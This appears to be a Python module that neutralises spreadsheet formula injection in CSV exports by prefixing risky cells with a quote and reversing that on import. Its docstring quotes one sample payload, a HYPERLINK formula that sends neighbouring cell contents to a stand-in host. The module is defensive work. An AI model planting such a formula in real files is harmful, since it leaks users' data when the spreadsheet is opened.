"""Spreadsheet-safe CSV cells: what a cell that a spreadsheet would run as a formula becomes on
export, and how an import gets the text back.

A cell that starts with ``=``, ``+``, ``-`` or ``@`` (after leading spaces, which spreadsheets
skip), or with a tab or a carriage return, is a formula to Excel, LibreOffice and Google Sheets:
``=HYPERLINK("http://evil.example/?"&B2,"x")`` in a Pancake product name would send the
neighbouring cells away when the file is opened. Such a cell is written with a ``'`` in front,
which spreadsheets show as text. A plain number (``-5``, ``+84``, ``-1.5e3``) cannot be a formula
and is left alone, so amounts stay numbers.

The escape is reversible, so an export read back by an import is exact: a cell that already
starts with ``'`` followed by a formula character or another ``'`` gets one more ``'``, and
``restore`` takes exactly one ``'`` off a cell that starts with ``'`` followed by a formula
character or ``'``. Any other cell, ``'abc`` included, is the same both ways.
"""

from __future__ import annotations

import re

QUOTE = "'"
# Spreadsheets read these as the start of a formula wherever the cell starts.
ALWAYS = ("\t", "\r")
# ... and these after any leading spaces (they skip them before looking).
FORMULA = ("=", "+", "-", "@")
SKIPPED = " \n\x0b\x0c"
NUMBER = re.compile(r"[+-]?(?:\d[\d,]*(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def _formula(text: str) -> bool:
    if text.startswith(ALWAYS):
        return True
    return text.lstrip(SKIPPED).startswith(FORMULA) and NUMBER.fullmatch(text) is None


def _escaped(text: str) -> bool:
    """``text`` is what ``neutralise`` made of a formula (or of an escaped-looking cell)."""
    rest = text[1:]
    return text.startswith(QUOTE) and (_formula(rest) or rest.startswith(QUOTE))


def neutralise(text: str) -> str:
    """The cell as written to a CSV file: never a formula, and ``restore`` gives ``text`` back."""
    return QUOTE + text if _formula(text) or _escaped(text) else text


def restore(text: str) -> str:
    """The text ``neutralise`` was given (a cell it did not change comes back as it is)."""
    return text[1:] if _escaped(text) else text
